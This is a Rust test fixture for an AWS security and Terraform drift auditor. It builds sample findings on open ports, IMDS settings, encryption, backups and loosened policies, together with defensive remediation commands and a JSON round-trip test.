    let names = |ids: &[&str]| ids.iter().map(|&id| id.to_owned()).collect();
    Finding {
        fingerprint: format!("{check}:{}:{}", resource.region, resource.id),
        check: check.into(),
        title: title.into(),
        component: component.into(),
        category: category.into(),
        severity: severity.into(),
        check_severity: None,
        status,
        value: None,
        reason: None,
        declared: None,
        resource,
        message: message.into(),
        evidence: Vec::new(),
        remediation: None,
        compliance: compliance.iter().map(|(name, ids)| ((*name).to_owned(), names(ids))).collect(),
        weight: None,
        points_lost: 0.0,
        gain: 0.0,
    }
}

fn failing(
    check: &str,
    severity: &str,
    declared: Status,
    resource: ResourceRef,
    message: &str,
    (points_lost, gain): (f64, f64),
) -> Finding {
    let (operation, fields) = match check {
        "STO-07" => {
            ("s3:GetBucketVersioning", json!({ "versioning": [{ "enabled": false, "mfa_delete": false }] }))
        }
        "NET-10" => ("ec2:DescribeInstances", json!({ "metadata_options": [{ "http_tokens": "optional" }] })),
        "STO-18" => ("rds:DescribeDBInstances", json!({ "storage_encrypted": false })),
        "DR-01" => ("rds:DescribeDBInstances", json!({ "multi_az": false })),
        "STO-26" => (
            "dynamodb:DescribeContinuousBackups",
            json!({ "point_in_time_recovery": [{ "enabled": false }] }),
        ),
        _ => (
            "ec2:DescribeSecurityGroupRules",
            json!({ "ingress": [{ "cidr_blocks": ["0.0.0.0/0"], "from_port": 5432, "protocol": "tcp", "to_port": 5432 }] }),
        ),
    };
    Finding {
        declared: Some(declared),
        evidence: vec![Evidence {
            operation: operation.into(),
            request: resource.id.clone(),
            fields: fields.as_object().cloned().unwrap_or_default(),
            observed_at: READ_AT.into(),
        }],
        remediation: Some(remediation(check)),
        points_lost,
        gain,
        ..finding(check, severity, Status::Fail, resource, message)
    }
}

fn remediation(check: &str) -> String {
    match check {
        "STO-07" => "**Console**: S3 → bucket → Properties → Bucket Versioning → Edit → Enable.\n\n\
             **CLI**: `aws s3api put-bucket-versioning --bucket NAME --versioning-configuration Status=Enabled`\n\n\
             **Terraform** (provider 4 and later):\n\n\
             ```hcl\nresource \"aws_s3_bucket_versioning\" \"this\" {\n  bucket = aws_s3_bucket.this.id\n  \
             versioning_configuration {\n    status = \"Enabled\"\n  }\n}\n```\n"
            .into(),
        "NET-10" => "**CLI**: `aws ec2 modify-instance-metadata-options --instance-id ID --http-tokens required`\n\n\
             **Terraform**:\n\n```hcl\nmetadata_options {\n  http_endpoint = \"enabled\"\n  http_tokens   = \"required\"\n}\n```\n"
            .into(),
        "STO-18" => "Encryption cannot be switched on in place. Copy a snapshot with a key, restore it, and move over:\n\n\
             - take a snapshot and copy it with `--kms-key-id`;\n- restore the copy under a new name;\n\
             - change the endpoint of the application.\n\n**Terraform**: `storage_encrypted = true`, `kms_key_id`.\n"
            .into(),
        _ => "Take the rule out, or narrow its source to the network of the application.\n\n\
             **CLI**: `aws ec2 revoke-security-group-ingress --group-id ID --ip-permissions …`\n\n\
             **Terraform**: replace `cidr_blocks = [\"0.0.0.0/0\"]` by `security_groups = [aws_security_group.app.id]`.\n"
            .into(),
    }
}

fn permission(reason: &str) -> String {
    match reason {
        "denied" => {
            "Grant the permission to the auditing role; `stateward policy` prints the whole policy.".into()
        }
        _ => "Run again when the region answers.".into(),
    }
}

fn low_tls() -> Finding {
    let balancer = ResourceRef {
        name: Some("orders".into()),
        ..resource(
            "aws_lb_listener",
            "arn:aws:elasticloadbalancing:us-west-2:123456789012:listener/app/orders/50dc6c495c0c9188/f2f7dc8efc522ab2",
            "us-west-2",
            Some("module.orders.aws_lb_listener.https"),
        )
    };
    failing(
        "NET-15",
        "low",
        Status::Fail,
        balancer,
        "The policy ELBSecurityPolicy-2016-08 allows TLS 1.0.",
        (0.36, 0.34),
    )
}

fn findings() -> Vec<Finding> {
    let group = |id: &str, name: &str, region: &str, address: &str| ResourceRef {
        name: Some(name.into()),
        arn: Some(format!("arn:aws:ec2:{region}:{ACCOUNT}:security-group/{id}")),
        ..resource("aws_security_group", id, region, Some(address))
    };
    let instance = |id: &str, name: &str, region: &str, address: &str| ResourceRef {
        name: Some(name.into()),
        ..resource("aws_instance", id, region, Some(address))
    };
    let bucket = |id: &str, region: &str, address: Option<&str>| ResourceRef {
        arn: Some(format!("arn:aws:s3:::{id}")),
        ..resource("aws_s3_bucket", id, region, address)
    };
    let database =
        |id: &str, region: &str, address: Option<&str>| resource("aws_db_instance", id, region, address);
    let table = |id: &str, region: &str| {
        resource("aws_dynamodb_table", id, region, Some("module.orders.aws_dynamodb_table.orders"))
    };
    let estate =
        || ResourceRef { account: String::new(), ..resource("stateward_estate", "estate", "global", None) };
    let pass = |check: &str, severity: &str, at: ResourceRef, message: &str| {
        finding(check, severity, Status::Pass, at, message)
    };
    let unknown = |check: &str, severity: &str, at: ResourceRef, message: &str, lost: f64| Finding {
        reason: Some("denied".into()),
        remediation: Some(permission("denied")),
        points_lost: lost,
        gain: lost,
        ..finding(check, severity, Status::Unknown, at, message)
    };
    let off = |name: &str| format!("Versioning of {name} is off.");
    let imds = |name: &str| {
        format!("{name} answers metadata requests without a session token (http_tokens = optional).")
    };
    let mut findings = vec![
        failing(
            "NET-01",
            "high",
            Status::Fail,
            group(
                "sg-0f00ba4ba4ba4ba40",
                "bastion",
                "us-east-1",
                "module.network[\"east\"].aws_security_group.bastion",
            ),
            "Port 22 is open to 0.0.0.0/0.",
            (1.08, 0.9),
        ),
        failing(
            "NET-01",
            "high",
            Status::Pass,
            group(
                "sg-0a1b2c3d4e5f60718",
                "orders-db",
                "us-west-2",
                "module.orders.aws_security_group.database",
            ),
            "Port 22 is open to 203.0.113.0/24 and ::/0.",
            (1.08, 0.9),
        ),
        failing(
            "NET-03",
            "critical",
            Status::Pass,
            group(
                "sg-0a1b2c3d4e5f60718",
                "orders-db",
                "us-west-2",
                "module.orders.aws_security_group.database",
            ),
            "Port 5432 (PostgreSQL) is open to 0.0.0.0/0.",
            (2.76, 4.92),
        ),
        failing(
            "NET-10",
            "high",
            Status::Fail,
            instance(
                "i-0c0ffee0c0ffee0c0",
                "orders-app-a",
                "us-west-2",
                "module.orders.aws_instance.app[\"a\"]",
            ),
            &imds("orders-app-a"),
            (0.31, 0.16),
        ),
        failing(
            "NET-10",
            "high",
            Status::Fail,
            instance(
                "i-0c0ffee0c0ffee0c1",
                "orders-app-b",
                "us-west-2",
                "module.orders.aws_instance.app[\"b\"]",
            ),
            &imds("orders-app-b"),
            (0.31, 0.16),
        ),
        failing(
            "NET-10",
            "high",
            Status::Fail,
            instance(
                "i-0deadbeefdeadbeef",
                "bastion",
                "us-east-1",
                "module.network[\"east\"].aws_instance.bastion",
            ),
            &imds("bastion"),
            (0.31, 0.16),
        ),
        failing(
            "STO-07",
            "high",
            Status::Fail,
            bucket("acme-orders-exports", "us-west-2", Some("module.orders.aws_s3_bucket.exports")),
            &off("acme-orders-exports"),
            (0.47, 0.28),
        ),
        failing(
            "STO-07",
            "high",
            Status::Unknown,
            bucket("acme-scratch", "us-east-1", None),
            &off("acme-scratch"),
            (0.47, 0.28),
        ),
        pass(
            "STO-07",
            "high",
            bucket("acme-orders-invoices", "us-west-2", Some("module.orders.aws_s3_bucket.invoices")),
            "Versioning is on.",
        ),
        pass("STO-07", "high", bucket("acme-tfstate", "us-west-2", None), "Versioning is on."),
        failing(
            "STO-18",
            "high",
            Status::Fail,
            database("reporting", "us-east-1", Some("module.reporting.aws_db_instance.this")),
            "The storage of reporting is not encrypted.",
            (0.83, 0.6),
        ),
        pass(
            "STO-18",
            "high",
            database("orders-prod", "us-west-2", Some("module.orders.aws_db_instance.main")),
            "The storage is encrypted.",
        ),
        unknown(
            "STO-18",
            "high",
            database("*", "eu-west-1", None),
            "rds:DescribeDBInstances: denied (not authorized to perform rds:DescribeDBInstances)",
            0.42,
        ),
        Finding {
            value: Some(0.571429),
            declared: Some(Status::Partial),
            remediation: Some("**Terraform**: `backup_retention_period = 7`.".into()),
            points_lost: 0.29,
            gain: 0.25,
            ..finding(
                "STO-22",
                "high",
                Status::Partial,
                database("reporting", "us-east-1", Some("module.reporting.aws_db_instance.this")),
                "Backups are kept for 4 days, and 7 are asked for.",
            )
        },
        failing(
            "STO-26",
            "high",
            Status::Pass,
            table("orders", "eu-west-1"),
            "Point-in-time recovery of orders is off.",
            (0.5, 0.38),
        ),
        pass("STO-26", "high", table("orders", "us-east-1"), "Point-in-time recovery is on."),
        pass("STO-26", "high", table("orders", "us-west-2"), "Point-in-time recovery is on."),
        finding(
            "STO-29",
            "high",
            Status::NotApplicable,
            ResourceRef { account: ACCOUNT.into(), ..estate() },
            "There is no replication group in any region.",
        ),
        failing(
            "DR-01",
            "high",
            Status::Fail,
            database("reporting", "us-east-1", Some("module.reporting.aws_db_instance.this")),
            "reporting runs in one zone.",
            (0.77, 0.7),
        ),
        Finding {
            declared: Some(Status::Fail),
            remediation: Some("Make a replica or copy automated backups to another region.".into()),
            points_lost: 1.6,
            gain: 0.0,
            ..finding(
                "DR-10",
                "critical",
                Status::Waived,
                database("orders-prod", "us-west-2", Some("module.orders.aws_db_instance.main")),
                "orders-prod has no copy outside us-west-2.",
            )
        },
        unknown(
            "DR-12",
            "high",
            bucket("acme-orders-invoices", "us-west-2", Some("module.orders.aws_s3_bucket.invoices")),
            "s3:GetBucketReplication: denied (explicit deny in a service control policy)",
            2.21,
        ),
        pass(
            "MON-01",
            "high",
            ResourceRef { account: ACCOUNT.into(), ..estate() },
            "The trail org-trail covers all regions.",
        ),
        Finding {
            value: Some(0.4),
            points_lost: 0.66,
            gain: 0.61,
            remediation: Some("Import what belongs to the estate; the drift items hold the blocks.".into()),
            ..finding(
                "IAC-19",
                "high",
                Status::Partial,
                estate(),
                "91.20 % of the estate is managed, and 95 % are asked for.",
            )
        },
        Finding {
            remediation: Some("Apply the states, or accept the change in the configuration.".into()),
            points_lost: 2.5,
            gain: 4.1,
            ..finding(
                "IAC-22",
                "critical",
                Status::Fail,
                estate(),
                "2 objects were loosened outside of Terraform.",
            )
        },
        unknown(
            "CLD-10",
            "medium",
            resource("aws_kms_key", "*", "eu-west-1", None),
            "kms:ListKeys: denied (not authorized to perform kms:ListKeys)",
            0.38,
        ),
        pass(
            "CLD-01",
            "critical",
            resource("aws_iam_account", ACCOUNT, "global", None),
            "The root user has no access key.",
        ),
    ];
    findings.sort_by(|a, b| {
        (&a.check, &a.resource.region, &a.resource.id).cmp(&(&b.check, &b.resource.region, &b.resource.id))
    });
    findings
}

fn change(path: &str, declared: Value, live: Value, label: &str) -> DriftChange {
    DriftChange { path: path.into(), declared, live, label: label.into(), ..DriftChange::default() }
}

fn item(class: &str, address: Option<&str>, kind: &str, id: &str, region: &str) -> DriftItem {
    DriftItem {
        fingerprint: format!("{class}:{}:{id}", address.unwrap_or_default()),
        class: class.into(),
        address: address.map(str::to_owned),
        state: address.map(|address| if address.contains("network") { NETWORK } else { ORDERS }.into()),
        kind: kind.into(),
        id: id.into(),
        account: ACCOUNT.into(),
        region: region.into(),
        ..DriftItem::default()
    }
}

/// What somebody did, as CloudTrail tells.
fn who(confidence: &str, actor: &str, kind: &str, event: &str, agent: &str) -> Who {
    Who {
        confidence: confidence.into(),
        time: Some("2026-02-28T16:41:07Z".into()),
        actor: Some(actor.into()),
        actor_kind: Some(kind.into()),
        through: None,
        event: Some(event.into()),
        source: Some("rds.amazonaws.com".into()),
        address: Some("203.0.113.7".into()),
        agent: Some(agent.into()),
        pipeline: false,
        paths: Vec::new(),
        reason: None,
    }
}

fn nobody(reason: &str) -> Who {
    Who {
        confidence: "none".into(),
        time: None,
        actor: None,
        actor_kind: None,
        event: None,
        source: None,
        address: None,
        agent: None,
        reason: Some(reason.into()),
        ..who("", "", "", "", "")
    }
}

fn unread(address: &str, kind: &str, id: &str, region: &str) -> DriftItem {
    DriftItem {
        reasons: vec!["rds:DescribeDBInstances: unreachable (no connection to the endpoint)".into()],
        ..item("unknown", Some(address), kind, id, region)
    }
}

fn summary() -> DriftSummary {
    DriftSummary {
        in_sync: 124,
        changed: 5,
        missing: 2,
        unmanaged: 3,
        unmanaged_parts: 2,
        ghost: 1,
        conflict: 2,
        unknown: 3,
        excluded: 37,
        suppressed: 5,
        accepted: 0,
        coverage: Coverage { low: 95.71, high: 97.86 },
    }
}

fn clean_drift() -> Drift {
    Drift {
        summary: DriftSummary {
            in_sync: 137,
            changed: 0,
            missing: 0,
            unmanaged: 0,
            unmanaged_parts: 0,
            ghost: 0,
            conflict: 0,
            unknown: 0,
            coverage: Coverage { low: 100.0, high: 100.0 },
            ..summary()
        },
        items: Vec::new(),
        suppressed: suppressed(),
        ..Drift::default()
    }
}

fn suppressed() -> Vec<Suppressed> {
    let one = |rule: &str, address: &str, path: &str| Suppressed {
        rule: rule.into(),
        address: address.into(),
        path: path.into(),
    };
    vec![
        one("N2", "module.orders.aws_iam_role.app", "assume_role_policy"),
        one("N2", "module.orders.aws_sqs_queue.jobs", "policy"),
        one("N4", "module.orders.aws_db_instance.main", "maintenance_window"),
        one("N6", "module.network.aws_instance.bastion", "tags_all"),
        one(
            "ignore: autoscaling owns it (ops@acme.example, until 2026-06-30)",
            "module.orders.aws_autoscaling_group.app",
            "desired_capacity",
        ),
    ]
}

fn drift() -> Drift {
    let loosening = "security-loosening";
    let items = vec![
        DriftItem {
            label: Some(loosening.into()),
            changes: vec![
                change("backup_retention_period", json!(7), json!(1), "other"),
                change("publicly_accessible", json!(false), json!(true), loosening),
            ],
            breaks: vec!["STO-19".into(), "STO-22".into()],
            who: Some(Who {
                paths: vec!["publicly_accessible".into()],
                ..who(
                    "certain",
                    "alice@acme.example (Administrator)",
                    "sso_user",
                    "ModifyDBInstance",
                    "console",
                )
            }),
            ..item(
                "changed",
                Some("module.orders.aws_db_instance.main"),
                "aws_db_instance",
                "orders-prod",
                "us-west-2",
            )
        },
        DriftItem {
            label: Some("capacity".into()),
            changes: vec![change("instance_type", json!("m7g.large"), json!("m7g.2xlarge"), "capacity")],
            name: Some("orders-app-a".into()),
            who: Some(Who {
                pipeline: true,
                source: Some("ec2.amazonaws.com".into()),
                reason: Some("a role of the pipeline: look for an apply that broke off".into()),
                ..who("likely", "deploy/run-4711", "role", "ModifyInstanceAttribute", "terraform")
            }),
            ..item(
                "changed",
                Some("module.orders.aws_instance.app[\"a\"]"),
                "aws_instance",
                "i-0c0ffee0c0ffee0c0",
                "us-west-2",
            )
        },
        DriftItem {
            label: Some("other".into()),
            changes: vec![DriftChange {
                sensitive: true,
                ..change(
                    "environment[0].variables[\"API_KEY\"]",
                    json!("(sensitive, digest 5f3a09c1)"),
                    json!("(sensitive, digest b81d77e2)"),
                    "other",
                )
            }],
            ..item(
                "changed",
                Some("module.orders.aws_lambda_function.mailer"),
                "aws_lambda_function",
                "orders-mailer",
                "us-west-2",
            )
        },
        DriftItem {
            label: Some(loosening.into()),
            changes: vec![change(
                "policy",
                json!({ "Statement": [{ "Action": "sqs:SendMessage", "Effect": "Allow", "Principal": { "AWS": "arn:aws:iam::123456789012:role/orders-app" }, "Resource": "*" }] }),
                json!({ "Statement": [{ "Action": "sqs:*", "Effect": "Allow", "Principal": "*", "Resource": "*" }] }),
                loosening,
            )],
            breaks: vec!["CLD-20".into()],
            who: Some(Who {
                source: Some("sqs.amazonaws.com".into()),
                ..who("possible", "root", "root", "SetQueueAttributes", "cli")
            }),
            ..item(
                "changed",
                Some("module.orders.aws_sqs_queue.jobs"),
                "aws_sqs_queue",
                "https://sqs.us-west-2.amazonaws.com/123456789012/orders-jobs",
                "us-west-2",
            )
        },
        DriftItem {
            label: Some("tag".into()),
            changes: vec![change("tags[\"CostCentre\"]", json!("4711"), Value::Null, "tag")],
            who: Some(nobody("no event of the 90 days that can be looked up explains it")),
            ..item(
                "changed",
                Some("module.network.aws_vpc.main"),
                "aws_vpc",
                "vpc-0aa11bb22cc33dd44",
                "us-west-2",
            )
        },
        item(
            "missing",
            Some("module.orders.aws_cloudwatch_metric_alarm.queue_age"),
            "aws_cloudwatch_metric_alarm",
            "orders-queue-age",
            "us-west-2",
        ),
        DriftItem {
            label: Some("security-loosening".into()),
            reasons: vec!["its owner aws_s3_bucket acme-orders-archive does not exist".into()],
            ..item(
                "missing",
                Some("module.orders.aws_s3_bucket_public_access_block.archive"),
                "aws_s3_bucket_public_access_block",
                "acme-orders-archive",
                "eu-west-1",
            )
        },
        DriftItem {
            owner: Some("module.orders.aws_security_group.database".into()),
            state: Some(ORDERS.into()),
            label: Some(loosening.into()),
            changes: vec![change(
                "ingress",
                Value::Null,
                json!({ "cidr_blocks": ["0.0.0.0/0"], "from_port": 5432, "protocol": "tcp", "to_port": 5432 }),
                loosening,
            )],
            breaks: vec!["NET-03".into()],
            ..item(
                "unmanaged",
                None,
                "aws_vpc_security_group_ingress_rule",
                "sg-0a1b2c3d4e5f60718/ingress/tcp/5432-5432/0.0.0.0/0",
                "us-west-2",
            )
        },
        DriftItem {
            import_block: Some(
                "import {\n  to = aws_s3_bucket.acme_scratch\n  id = \"acme-scratch\"\n}\n".into(),
            ),
            arn: Some("arn:aws:s3:::acme-scratch".into()),
            ..item("unmanaged", None, "aws_s3_bucket", "acme-scratch", "us-east-1")
        },
        DriftItem {
            owner: Some("module.orders.aws_iam_role.app".into()),
            label: Some(loosening.into()),
            changes: vec![change(
                "inline_policy",
                Value::Null,
                json!({ "name": "debug", "policy": "{\"Statement\":[{\"Action\":\"*\"}]}" }),
                loosening,
            )],
            ..item("unmanaged", None, "aws_iam_role_policy", "orders-app:debug", "global")
        },
        DriftItem {
            reasons: vec!["region ap-southeast-2 is not audited".into()],
            ..item(
                "ghost",
                Some("module.legacy.aws_instance.old"),
                "aws_instance",
                "i-01d01d01d01d01d01",
                "ap-southeast-2",
            )
        },
        DriftItem {
            reasons: vec![
                "claimed by module.network.aws_route_table.private and module.orders.aws_route_table.private"
                    .into(),
            ],
            ..item(
                "conflict",
                Some("module.network.aws_route_table.private"),
                "aws_route_table",
                "rtb-0123456789abcdef0",
                "us-west-2",
            )
        },
        DriftItem {
            reasons: vec![
                "claimed by module.network.aws_route_table.private and module.orders.aws_route_table.private"
                    .into(),
            ],
            ..item(
                "conflict",
                Some("module.orders.aws_route_table.private"),
                "aws_route_table",
                "rtb-0123456789abcdef0",
                "us-west-2",
            )
        },
        DriftItem {
            reasons: vec![
                "rds:DescribeDBInstances: denied (not authorized to perform rds:DescribeDBInstances)".into(),
            ],
            ..item(
                "unknown",
                Some("module.orders.aws_db_instance.replica"),
                "aws_db_instance",
                "orders-prod-replica",
                "eu-west-1",
            )
        },
        DriftItem {
            reasons: vec!["kms:ListKeys: denied (not authorized to perform kms:ListKeys)".into()],
            ..item(
                "unknown",
                Some("module.orders.aws_kms_key.dr"),
                "aws_kms_key",
                "1234abcd-12ab-34cd-56ef-1234567890ab",
                "eu-west-1",
            )
        },
        DriftItem {
            reasons: vec!["aws_codebuild_project: unsupported (this type cannot be read yet)".into()],
            ..item(
                "unknown",
                Some("module.orders.aws_codebuild_project.app"),
                "aws_codebuild_project",
                "orders-app",
                "us-west-2",
            )
        },
    ];
    Drift {
        summary: summary(),
        items,
        suppressed: suppressed(),
        unread_states: vec![IDENTITY.into()],
        idle_ignore_rules: vec!["module.legacy.* tags: matched nothing".into()],
        configurations: vec![Configuration {
            source: "infra/orders".into(),
            states: vec![ORDERS.into()],
            resources: 61,
            ignore_entries: 3,
            ignored: vec![IgnoredChange {
                address: "module.orders.aws_autoscaling_group.app".into(),
                change: change("tags.Deployed", json!("41"), json!("42"), "ignored-by-config"),
            }],
            notes: vec![
                "infra/orders/main.tf:12: `for_each` is not written out: every instance of aws_eip.nat is covered"
                    .into(),
            ],
        }],
        ..Drift::default()
    }
}

fn step(candidate: &str, group: &str, checks: &[&str], severity: &str, gain: f64, effort: u64) -> Step {
    let found = findings();
    let fingerprints = found
        .iter()
        .filter(|finding| {
            checks.contains(&finding.check.as_str())
                && !matches!(finding.status, Status::Pass | Status::NotApplicable)
        })
        .map(|finding| finding.fingerprint.clone());
    Step {
        candidate: candidate.into(),
        group: group.into(),
        findings: fingerprints.collect(),
        checks: checks.iter().map(|&check| check.to_owned()).collect(),
        severity: severity.into(),
        gain,
        effort,
    }
}

fn plan() -> Vec<Step> {
    vec![
        step(
            "NET-03 on module.orders.aws_security_group.database in s3://acme-tfstate/prod/orders.tfstate",
            "finding",
            &["NET-03"],
            "critical",
            4.92,
            1,
        ),
        step("read s3:GetBucketReplication (denied)", "evidence", &["DR-12"], "high", 2.21, 1),
        step(
            "module.orders in s3://acme-tfstate/prod/orders.tfstate",
            "module",
            &["NET-01", "NET-03", "NET-10", "STO-07", "STO-26"],
            "critical",
            6.84,
            3,
        ),
        step("IAC-22 everywhere", "check", &["IAC-22"], "critical", 4.1, 3),
        step("NET-01 everywhere", "check", &["NET-01"], "high", 1.98, 1),
        step("STO-07 everywhere", "check", &["STO-07"], "high", 0.71, 1),
        step(
            "STO-18 on module.reporting.aws_db_instance.this in s3://acme-tfstate/prod/orders.tfstate",
            "finding",
            &["STO-18"],
            "high",
            0.6,
            8,
        ),
    ]
}

fn waivers() -> Vec<Waiver> {
    let waiver = |subject: &str, reason: &str, expires: &str, outcome: &str| Waiver {
        subject: subject.into(),
        owner: "payments@acme.example".into(),
        approver: "cto@acme.example".into(),
        reason: reason.into(),
        ticket: "RISK-214".into(),
        expires: expires.into(),
        outcome: outcome.into(),
    };
    vec![
        waiver("DR-10 on orders-prod", "The replica in us-east-1 is being built.", "2026-05-01", "used"),
        waiver("NET-09 on legacy-*", "Moved behind the balancer.", "2026-02-14", "expired"),
    ]
}

#[allow(clippy::too_many_arguments)]
fn error(
    service: &str,
    operation: &str,
    region: &str,
    reason: &str,
    code: &str,
    message: &str,
    checks: &[&str],
    types: &[&str],
) -> CollectionError {
    let names = |words: &[&str]| words.iter().map(|&word| word.to_owned()).collect();
    CollectionError {
        service: service.into(),
        operation: operation.into(),
        account: ACCOUNT.into(),
        region: region.into(),
        reason: reason.into(),
        code: code.into(),
        message: message.into(),
        permission: (reason == "denied").then(|| match operation {
            "GetBucketReplication" => "s3:GetReplicationConfiguration".into(),
            _ => format!("{service}:{operation}"),
        }),
        affects: Affects { checks: names(checks), types: names(types), attribution: false },
    }
}

fn collection() -> Collection {
    let operation = |service: &str, operation: &str, region: &str, calls, failed, items| Operation {
        service: service.into(),
        operation: operation.into(),
        account: ACCOUNT.into(),
        region: region.into(),
        calls,
        throttled: u64::from(operation == "DescribeInstances"),
        retried: u64::from(operation == "DescribeInstances"),
        failed,
        items,
    };
    Collection {
        operations: vec![
            operation("ec2", "DescribeInstances", "us-east-1", 3, 0, 14),
            operation("ec2", "DescribeInstances", "us-west-2", 4, 0, 31),
            operation("kms", "ListKeys", "eu-west-1", 1, 1, 0),
            operation("rds", "DescribeDBInstances", "eu-west-1", 1, 1, 0),
            operation("s3", "GetBucketReplication", "us-west-2", 12, 12, 0),
            operation("s3", "GetObject", "us-west-2", 3, 1, 2),
        ],
        errors: vec![
            error(
                "kms",
                "ListKeys",
                "eu-west-1",
                "denied",
                "AccessDeniedException",
                "not authorized to perform kms:ListKeys",
                &["CLD-10", "CLD-11", "DR-30"],
                &["aws_kms_alias", "aws_kms_key"],
            ),
            error(
                "rds",
                "DescribeDBInstances",
                "eu-west-1",
                "denied",
                "AccessDenied",
                "not authorized to perform rds:DescribeDBInstances",
                &["DR-01", "DR-10", "STO-18", "STO-19", "STO-22"],
                &["aws_db_instance"],
            ),
            error(
                "s3",
                "GetBucketReplication",
                "us-west-2",
                "denied",
                "AccessDenied",
                "explicit deny in a service control policy",
                &["DR-12"],
                &["aws_s3_bucket", "aws_s3_bucket_replication_configuration"],
            ),
            error(
                "s3",
                "GetObject",
                "us-west-2",
                "denied",
                "AccessDenied",
                "the state s3://acme-tfstate/prod/identity.tfstate",
                &["IAC-19", "IAC-23"],
                &["terraform_state"],
            ),
            error(
                "sns",
                "ListTopics",
                "eu-west-1",
                "throttled",
                "ThrottlingException",
                "still throttled after 8 tries",
                &["CLD-20", "STO-42"],
                &["aws_sns_topic"],
            ),
        ],
        calls: 286,
        wall_ms: 38_412,
    }
}

#[test]
fn every_sample_reads_back_as_it_was_written() {
    for (name, document) in all() {
        let text = document.to_json().unwrap();
        assert_eq!(Document::from_json(name, &text).unwrap(), document, "{name}");
    }
    let large = large(100);
    assert_eq!(large.findings.len(), findings().len() + 100);

    let drift = drift();
    let managed = |class: &str| drift.items.iter().filter(|item| item.class == class).count();
    let summary = &drift.summary;
    assert_eq!(
        ["changed", "missing", "unmanaged", "ghost", "conflict", "unknown"].map(managed),
        [
            summary.changed,
            summary.missing,
            summary.unmanaged,
            summary.ghost,
            summary.conflict,
            summary.unknown
        ]
    );
    assert_eq!(drift.suppressed.len(), summary.suppressed);
}
